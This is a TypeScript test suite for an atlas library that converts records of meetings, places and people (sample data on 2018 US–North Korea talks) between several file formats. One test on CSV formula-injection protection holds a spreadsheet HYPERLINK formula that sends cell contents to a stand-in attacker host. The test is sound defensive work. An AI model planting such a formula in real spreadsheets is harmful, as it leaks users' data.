import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { AtlasData } from '../../../src/core/model/model.js';
import { readAtlas } from '../../../src/core/formats/read.js';
import { writeJsonLd } from '../../../src/core/formats/json-ld/write.js';
import { writeLinkedPlaces } from '../../../src/core/formats/linked-places/write.js';
import { nativeText } from '../../../src/core/formats/native/write.js';
import { writeTable } from '../../../src/core/formats/table/write.js';
import { writeTables } from '../../../src/core/formats/linked-tables/write.js';
import type { Written } from '../../../src/core/formats/written.js';
import { anyAtlasData } from '../samples/any-atlas.js';
import { dataOf, meetingOf, personOf, placeOf } from '../samples/build.js';
import { readNative, readTable, readTables } from './reading.js';

const firstAtlas = readNative(
  readFileSync(new URL('../../../geo/us-dprk-2018.geojson', import.meta.url), 'utf8'),
).value;

/** The text of a format that is one file. */
const textOf = ({ files }: Written): string => files.map(({ text }) => text).join('');

const lost = (losses: readonly { readonly path: string }[]): readonly string[] => losses.map(({ path }) => path);

/** An atlas that a flat table holds without loss: its texts have one language, and its ids are made from names. */
const simple: AtlasData = dataOf({
  places: [
    placeOf('panmunjeom', 'Panmunjeom', {
      coordinates: [126.67667, 37.95583],
      timeZone: 'Asia/Seoul',
      parts: [{ id: 'tongilgak', name: 'Tongilgak', sources: [] }],
    }),
    placeOf('sydney', 'Sydney', { coordinates: [151.20732, -33.86785] }),
    { id: 'somewhere', name: 'Somewhere', aliases: [], parts: [], sources: [] },
  ],
  sides: [
    { id: 'united-states', name: 'United States' },
    { id: 'north-korea', name: 'North Korea' },
  ],
  people: [personOf('sung-kim', 'Sung Kim', 'united-states'), personOf('choe-son-hui', 'Choe Son-hui', 'north-korea')],
  topics: [{ id: 'sanctions', name: 'Sanctions', positions: [], sources: [] }],
  series: [{ id: 'working-talks', title: 'Working talks', sources: [] }],
  sources: [
    { id: 'report', title: 'Report', url: 'https://news.example/1' },
    { id: 'letter', title: 'Letter' },
  ],
  meetings: [
    meetingOf('panmunjeom-5', {
      title: 'Fifth session, "final"',
      when: '2018-06-04T10:00~',
      timeZone: 'Asia/Seoul',
      people: [],
      attendance: [
        { person: 'sung-kim', role: 'head', sources: [] },
        { person: 'choe-son-hui', sources: [] },
      ],
      series: 'working-talks',
      number: 5,
      duration: 'PT90M',
      topics: ['sanctions'],
      note: 'In two rounds;\nno statement.',
      certainty: 'confirmed',
      sources: ['report', 'letter'],
      places: ['panmunjeom'],
    }),
    meetingOf('sydney-1', { title: 'Sydney', when: '-0044-03-15', places: ['sydney'], status: 'cancelled' }),
    meetingOf('call', { title: 'Call', mode: 'phone', when: '2018-05-29/2018-06-01', places: ['somewhere'] }),
  ],
});
const withPart: AtlasData = {
  ...simple,
  meetings: simple.meetings.map((meeting) =>
    meeting.id === 'panmunjeom-5' ? { ...meeting, places: [{ place: 'panmunjeom', part: 'tongilgak' }] } : meeting,
  ),
};

describe('nativeText', () => {
  it('gives any atlas back when it is read', () => {
    fc.assert(
      fc.property(anyAtlasData, (data) => {
        const { value, issues } = readNative(nativeText(data));
        expect(issues).toEqual([]);
        expect(value).toEqual(data);
      }),
    );
  });

  it('gives the same text after any number of round trips', () => {
    fc.assert(
      fc.property(anyAtlasData, (data) => {
        const text = nativeText(data);
        expect(nativeText(readNative(text).value)).toBe(text);
      }),
    );
  });

  it('keeps the first atlas and writes one thing on each line', () => {
    const text = nativeText(firstAtlas);
    expect(readNative(text)).toEqual({ value: firstAtlas, issues: [] });
    const changed = nativeText({
      ...firstAtlas,
      meetings: firstAtlas.meetings.map((meeting) => ({
        ...meeting,
        ...(meeting.id === 'panmunjeom-5' ? { duration: 'PT2H' } : {}),
      })),
    });
    const before = text.split('\n');
    const after = changed.split('\n');
    expect(after.length).toBe(before.length);
    expect(after.filter((line, index) => line !== before[index])).toHaveLength(1);
  });
});

describe('writeTable', () => {
  it('keeps buildings, and sources with and without an address', () => {
    const written = writeTable(withPart);
    const { losses } = written;
    const text = textOf(written);
    expect(losses).toEqual([]);
    const { value, issues } = readTable(text);
    expect(issues.map(({ code }) => code)).toEqual(['coordinates-missing']);
    expect(value).toEqual(withPart);
  });

  it('has the columns that users fill in, and no other empty ones', () => {
    const written = writeTable(dataOf({ meetings: [meetingOf('a', { when: '2018' })] }));
    const [headings] = textOf(written).split('\r\n');
    expect(headings).toBe('id,meeting,date,place,lat,lon,people');
  });

  it('protects cells from being taken for formulas, and the reader removes the protection', () => {
    const formula = '=HYPERLINK("https://evil.example?"&A1,"x")';
    const data = dataOf({
      places: [placeOf('at-place', '@place', { coordinates: [-70.5, -33.5] })],
      people: [personOf('1-person', '+1 Person')],
      meetings: [meetingOf('m', { title: formula, people: ['1-person'], places: ['at-place'], note: '-2+3' })],
    });
    const text = textOf(writeTable(data));
    const cells = text.split('\r\n')[1] ?? '';
    expect(cells).toContain(`"'=HYPERLINK(""`);
    expect(cells).toContain(",'@place,-33.5,-70.5,'+1 Person,'-2+3");
    const { meetings, places, people } = readTable(text).value;
    expect(meetings[0]).toMatchObject({ title: formula, note: '-2+3' });
    expect(places[0]).toMatchObject({ name: '@place', coordinates: [-70.5, -33.5] });
    expect(people[0]?.name).toBe('+1 Person');
  });

  it('lists what it cannot hold from the first atlas', () => {
    const { losses } = writeTable(firstAtlas);
    expect(new Set(losses.map(({ code }) => code))).toEqual(new Set(['not-held']));
    expect(lost(losses)).toEqual(
      expect.arrayContaining(['title (en)', 'meetings.claims', 'topics.positions', 'people.name (ko)', 'sources.date']),
    );
    expect(lost(losses)).not.toContain('meetings');
    expect(lost(losses)).not.toContain('meetings.when');
    expect(lost(losses)).not.toContain('meetings.topics');
    const claims = firstAtlas.meetings.reduce((sum, meeting) => sum + meeting.claims.length, 0);
    expect(losses.find(({ path }) => path === 'meetings.claims')?.found).toBe(String(claims));
  });

  it('never loses a meeting, and lists every change of a title or date', () => {
    fc.assert(
      fc.property(anyAtlasData, (data) => {
        const written = writeTable(data);
        const { losses } = written;
        const text = textOf(written);
        const back = readTable(text).value;
        expect(back.meetings.map(({ id }) => id)).toEqual(data.meetings.map(({ id }) => id));
        for (const [index, meeting] of data.meetings.entries()) {
          const after = back.meetings[index];
          if (meeting.when?.edtf !== after?.when?.edtf) expect(lost(losses)).toContain('meetings.when');
          const isSameTitle = typeof meeting.title !== 'string' || meeting.title === after?.title;
          if (!isSameTitle) expect(lost(losses)).toContain('meetings.title');
          if (meeting.places.length !== after?.places.length) {
            expect(lost(losses).some((path) => path.startsWith('meetings.places') || path === 'places')).toBe(true);
          }
        }
      }),
    );
  });

  it('writes texts in the given language', () => {
    expect(textOf(writeTable(firstAtlas, { lang: 'ko' }))).toContain('판문점');
    expect(textOf(writeTable(firstAtlas))).toContain('Panmunjeom');
  });
});

describe('writeTables', () => {
  it('lists what is lost on the way to tables and back', () => {
    const { files, losses } = writeTables(simple);
    expect(files.map(({ name }) => name)).toEqual([
      'people.csv',
      'events.csv',
      'people-at-events.csv',
      'locations.csv',
    ]);
    // One row cannot say which of two sources its one address belongs to.
    expect(lost(losses)).toEqual([
      'sources.id',
      'sources.title',
      'places.parts',
      'meetings.number',
      'meetings.duration',
      'meetings.certainty',
    ]);
    const { value, issues } = readTables(files);
    expect(issues.map(({ code }) => code)).toEqual(['coordinates-missing']);
    const again = nativeText(value);
    expect(readNative(again).value).toEqual(value);
    expect(value.people).toEqual(simple.people);
    expect(value.meetings.map(({ id, when }) => [id, when?.edtf])).toEqual(
      simple.meetings.map(({ id, when }) => [id, when?.edtf]),
    );
  });

  it('keeps people and places without meetings', () => {
    const data = dataOf({
      places: [placeOf('oslo', 'Oslo', { coordinates: [10.75, 59.91] })],
      people: [personOf('jan-egeland', 'Jan Egeland')],
    });
    const { files, losses } = writeTables(data);
    expect(losses).toEqual([]);
    expect(readTables(files).value).toEqual(data);
    expect(lost(writeTable(data).losses)).toEqual(['places', 'people']);
  });
});

describe('writeJsonLd', () => {
  it('writes schema.org events that the reader knows, and lists what they cannot hold', async () => {
    const written = writeJsonLd(withPart);
    const { losses } = written;
    const text = textOf(written);
    const { value, issues } = await readAtlas(text);
    expect(issues.filter(({ code }) => code !== 'coordinates-missing')).toEqual([]);
    expect(value.meetings.map(({ id, title }) => [id, title])).toEqual(
      withPart.meetings.map(({ id, title }) => [id, title]),
    );
    expect(value.places.find(({ name }) => name === 'Sydney')?.coordinates).toEqual([151.20732, -33.86785]);
    expect(lost(losses)).toEqual(expect.arrayContaining(['meetings.number', 'meetings.when', 'meetings.mode']));
    expect(lost(losses)).not.toContain('meetings');
    expect(lost(losses)).not.toContain('people');
    const [event] = (JSON.parse(text) as { readonly '@graph': readonly Record<string, unknown>[] })['@graph'];
    expect(event).toMatchObject({ '@type': 'Event', startDate: '2018-06-04T10:00+09:00', identifier: 'panmunjeom-5' });
  });
});

describe('writeLinkedPlaces', () => {
  it('writes places with their first and last date, and lists meetings and people as lost', async () => {
    const written = writeLinkedPlaces(firstAtlas);
    const { losses } = written;
    const text = textOf(written);
    const { value } = await readAtlas(text);
    expect(value.places.map(({ id, coordinates }) => [id, coordinates])).toEqual(
      firstAtlas.places.map(({ id, coordinates }) => [id, coordinates]),
    );
    expect(lost(losses)).toEqual(expect.arrayContaining(['meetings', 'people', 'places.parts']));
    expect(losses.find(({ path }) => path === 'meetings')?.found).toBe(String(firstAtlas.meetings.length));
    const { features } = JSON.parse(text) as { readonly features: readonly Record<string, unknown>[] };
    expect(features[0]?.['when']).toEqual({ timespans: [{ start: { in: '2018-05-27' }, end: { in: '2018-06-06' } }] });
  });
});

describe('all writers', () => {
  it('write any atlas, and the readers read it', async () => {
    await fc.assert(
      fc.asyncProperty(anyAtlasData, async (data) => {
        const { files } = writeTables(data);
        expect(readTables(files).value.meetings).toHaveLength(data.meetings.length);
        const events = await readAtlas(textOf(writeJsonLd(data)));
        expect(events.value.meetings.length).toBe(data.meetings.length);
        const gazetteer = writeLinkedPlaces(data);
        const places = (await readAtlas(textOf(gazetteer))).value.places.length;
        if (places !== data.places.length) expect(lost(gazetteer.losses)).toContain('places');
      }),
      { numRuns: 50 },
    );
  });
});
